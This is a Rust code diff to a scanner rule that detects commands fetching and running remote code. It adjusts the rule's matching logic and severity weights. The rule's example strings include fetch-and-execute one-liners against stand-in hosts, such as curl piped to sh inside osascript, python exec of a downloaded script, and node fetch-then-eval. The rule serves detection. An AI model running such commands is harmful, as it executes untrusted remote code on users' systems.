@@ -43,7 +43,7 @@ pub(super) const RULE: Rule = Rule {
         text("`npx -y git+https://a.b/x.git`"),
         text("`pip install http://1.2.3.4/x.tar.gz`"),
         text("`pip install git+http://a.b/x`"),
-        text("`npm install -g https://a.b/x.tgz`"),
+        text("`npm install -g http://a.b/x.tgz`"),
         text("`osascript -e 'do shell script \"curl -s http://a.b/x | sh\"'`"),
         text("`python3 -c \"import urllib.request as u;exec(u.urlopen('http://a.b/x').read())\"`"),
         text("`node -e \"fetch('https://a.b/x').then(r=>r.text()).then(eval)\"`"),
@@ -59,17 +59,20 @@ pub(super) const RULE: Rule = Rule {
 };
 
 fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    if !unit.text().contains("://") && !unit.text().contains("data:") {
+        return Vec::new();
+    }
     unit.commands().steps().filter_map(hit).take(20).collect()
 }
 
 fn hit(step: Step<'_>) -> Option<Hit> {
     let name = step.name();
     let severity = match name.as_str() {
-        "deno" if step.has("run") || step.has("install") => weight(&worst(step)?, false)?,
         "npx" | "bunx" | "uvx" | "pnpx" => weight(&worst(step)?, false)?,
-        "npm" | "pnpm" | "yarn" | "bun" if installs(step) => weight(&worst(step)?, true)?,
-        "pip" | "pipx" | "uv" if installs(step) => weight(&worst(step)?, true)?,
-        "go" if step.has("run") => weight(&worst(step)?, false)?,
+        "deno" | "go" if step.has("run") || step.has("install") => weight(&worst(step)?, false)?,
+        "npm" | "pnpm" | "yarn" | "bun" | "pip" | "pipx" | "uv" if installs(step) => {
+            weight(&worst(step)?, true)?
+        }
         "python" | "node" | "perl" | "ruby" | "php" | "osascript" => fetching_code(step)?,
         _ => return None,
     };
@@ -122,7 +125,7 @@ fn weight(from: &Destination, installs: bool) -> Option<Severity> {
         Kind::Vendor if from.encrypted => None,
         Kind::UserContent if from.encrypted => Some(Severity::Note),
         Kind::Private => Some(Severity::Note),
-        Kind::Placeholder | Kind::Unknown if from.encrypted && installs => Some(Severity::Critical),
+        Kind::Placeholder | Kind::Unknown if from.encrypted && installs => Some(Severity::Warning),
         _ => Some(Severity::Critical),
     }
 }
